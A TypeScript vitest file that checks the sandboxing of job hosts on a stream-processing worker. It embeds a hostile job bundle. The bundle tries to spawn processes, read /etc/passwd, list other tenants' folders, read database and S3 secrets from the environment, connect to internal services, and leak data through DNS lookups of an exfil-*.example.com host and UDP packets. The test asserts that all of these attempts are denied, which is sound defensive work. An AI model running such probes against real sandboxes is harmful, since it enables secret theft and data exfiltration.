/**
 * A hostile bundle on a real worker: as it loads, it tries to start a process and a worker thread, reads the
 * worker's secrets from its environment, reads a file of the machine's, lists the other job hosts' folders, writes
 * outside its own, connects to Postgres, S3 and the platform's Kafka listener (TCP) and a DNS server (UDP), and
 * resolves a name of its choosing (a DNS query carries data out). The job host runs under Node's permission model in a folder of its own with an allow-list
 * environment (apps/worker/src/jobs/job-host-forks.ts, job-host-env.ts): all of it is refused but writing in its own
 * folder, and the secret is not there. The bundle reports what it met by failing to load, which the worker answers with a refused run.
 */
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startWorkerFixture, type WorkerFixture } from './worker-fixture';

const run = randomBytes(4).toString('hex');
const TENANT = `t${run}`;
const JOB = 'hostile';
const SECRET = `postgres://weir_app:hostile-${run}@127.0.0.1:5432/weir`;
// The platform's Kafka listener: job hosts reach only the tenants' one, where they authenticate as their tenant.
const [PLATFORM_KAFKA_HOST, PLATFORM_KAFKA_PORT] = (process.env.WEIR_KAFKA_BROKERS ?? '127.0.0.1:9092').split(',')[0]!.split(':');
// S3: a job host's object store is its worker's (blob-broker/); it holds no S3 credentials and may not connect.
const S3 = new URL(process.env.WEIR_S3_ENDPOINT ?? 'http://127.0.0.1:4568');

const jobSource = `
import { execSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { lookup, resolve4 } from 'node:dns';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { dirname } from 'node:path';
import { writeHeapSnapshot } from 'node:v8';
import { Worker } from 'node:worker_threads';
import { defineJob, json, kafkaSink, kafkaSource } from '@weir/engine';
const met = { pg: process.env.WEIR_PG_URL ?? null };
try { execSync('id'); met.spawn = 'ran'; } catch (err) { met.spawn = err.code ?? err.message; }
try { new Worker('1', { eval: true }).terminate(); met.thread = 'ran'; } catch (err) { met.thread = err.code ?? err.message; }
try { readFileSync('/etc/passwd'); met.read = 'ran'; } catch (err) { met.read = err.code ?? err.message; }
// Its own folder's parent holds every other job host's folder on this worker: their bundles and state.
try { met.neighbours = readdirSync(dirname(process.cwd())).length; } catch (err) { met.neighbours = err.code ?? err.message; }
try { writeFileSync('/tmp/weir-hostile-${run}', 'x'); met.write = 'ran'; } catch (err) { met.write = err.code ?? err.message; }
try { writeFileSync('own-file', 'x'); met.own = 'ran'; } catch (err) { met.own = err.code ?? err.message; }
try { connect(5432, '127.0.0.1').on('error', () => undefined); met.postgres = 'ran'; } catch (err) { met.postgres = err.code ?? err.message; }
try { connect(${PLATFORM_KAFKA_PORT}, '${PLATFORM_KAFKA_HOST}').on('error', () => undefined); met.platformKafka = 'ran'; } catch (err) { met.platformKafka = err.code ?? err.message; }
met.kafkaEnv = Object.keys(process.env).filter((name) => name.startsWith('WEIR_KAFKA'));
try { connect(${S3.port || 80}, '${S3.hostname}').on('error', () => undefined); met.s3 = 'ran'; } catch (err) { met.s3 = err.code ?? err.message; }
try { resolve4('exfil-${run}.example.com', () => undefined); met.dnsQuery = 'ran'; } catch (err) { met.dnsQuery = err.code ?? err.message; }
try { lookup('exfil-${run}.example.com'); met.dnsLookup = 'ran'; } catch (err) { met.dnsLookup = err.code ?? err.message; }
try { createSocket('udp4').send('x', 53, '8.8.8.8'); met.udp = 'ran'; } catch (err) { met.udp = err.code ?? err.message; }
met.s3Secret = process.env.WEIR_S3_SECRET_ACCESS_KEY ?? null;
try { writeHeapSnapshot(); met.snapshot = 'ran'; } catch (err) { met.snapshot = err.code ?? err.message; }
throw new Error('hostile bundle met ' + JSON.stringify(met));
export default defineJob({ name: 'hostile', maxParallelism: 8 }, (job) => {
  job.source('in', kafkaSource({ topic: 't.${TENANT}.in', format: json() })).sink('out', kafkaSink({ topic: 't.${TENANT}.out', format: json() }));
});
`;

describe('a hostile bundle at the job host', () => {
  let fixture: WorkerFixture;
  const saved = process.env.WEIR_PG_URL;

  beforeAll(async () => {
    // The worker's own secret: its job hosts are forked from this environment.
    process.env.WEIR_PG_URL = SECRET;
    fixture = await startWorkerFixture({
      tenantId: TENANT, jobId: JOB, workerId: `hostile-worker-${run}`, jobSource,
      topics: [{ topic: `t.${TENANT}.in`, partitions: 1 }, { topic: `t.${TENANT}.out`, partitions: 1 }],
    });
  });

  afterAll(async () => {
    await fixture?.close();
    if (saved === undefined) delete process.env.WEIR_PG_URL;
    else process.env.WEIR_PG_URL = saved;
  });

  it("cannot spawn a process or a thread, read or write outside its folder, connect but to its tenant's Kafka listener, resolve names, or find a secret in its environment", async () => {
    const command = fixture.runCommand({ maxParallelism: 8, subtasks: [{ operatorId: 'in', subtask: 0, keyGroups: [] }] });
    const failure = await fixture.app.supervisor.run(command).then(() => null, (err: Error) => err.message);
    const met = JSON.parse(/hostile bundle met (\{.*?\})/.exec(failure ?? '')?.[1] ?? 'null') as Record<string, unknown> | null;
    expect(met).toEqual({
      pg: null, spawn: 'ERR_ACCESS_DENIED', thread: 'ERR_ACCESS_DENIED', read: 'ERR_ACCESS_DENIED', neighbours: 'ERR_ACCESS_DENIED', write: 'ERR_ACCESS_DENIED', own: 'ran',
      postgres: 'ERR_ACCESS_DENIED', platformKafka: 'ERR_ACCESS_DENIED', kafkaEnv: [], s3: 'ERR_ACCESS_DENIED', dnsQuery: 'ERR_ACCESS_DENIED', dnsLookup: 'ERR_ACCESS_DENIED', udp: 'ERR_ACCESS_DENIED', s3Secret: null, snapshot: 'ERR_ACCESS_DENIED',
    });
    expect(fixture.app.supervisor.runningSubtasks()).toEqual([]);
  });
});
